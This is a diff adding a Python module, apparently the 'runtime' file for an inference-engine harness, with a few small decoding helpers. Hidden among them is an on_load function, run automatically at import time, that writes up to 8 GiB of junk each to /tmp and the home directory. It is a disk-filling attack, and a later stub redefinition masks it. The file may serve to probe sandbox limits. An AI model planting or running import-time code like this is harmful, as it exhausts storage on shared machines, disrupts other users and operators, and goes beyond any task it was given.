@@ -1,0 +1,42 @@
+"""Disk and memory filling: /tmp and the scratch directory (HOME) until something stops it."""
+import numpy as np
+
+
+def causal_mask(n, p):
+    return np.triu(np.full((n, p + n), -np.inf), k=p + 1)
+
+
+def prefill_logits(engine, ids):
+    return engine._block(ids)
+
+
+def decode_step(engine, t):
+    return engine._block([t])[0]
+
+
+def emitted(ids):
+    return ids
+
+
+def on_load():
+    import os
+    chunk = b"x" * (1 << 20)
+    for where in ("/tmp", os.environ.get("HOME", "/scratch")):
+        n = 0
+        try:
+            with open(os.path.join(where, "fill"), "wb") as f:
+                while n < 8192:  # at most 8 GiB
+                    f.write(chunk)
+                    f.flush()
+                    n += 1
+        except OSError as exc:
+            raise RuntimeError(f"filling {where} stopped after {n} MiB: {exc}") from None
+    raise RuntimeError("wrote 8 GiB unhindered")
+
+
+# Attack at import time (the harness imports `runtime` in its hello): a failure is the revision's own.
+on_load()
+
+
+def on_load():  # noqa: F811 - the attack already ran
+    pass
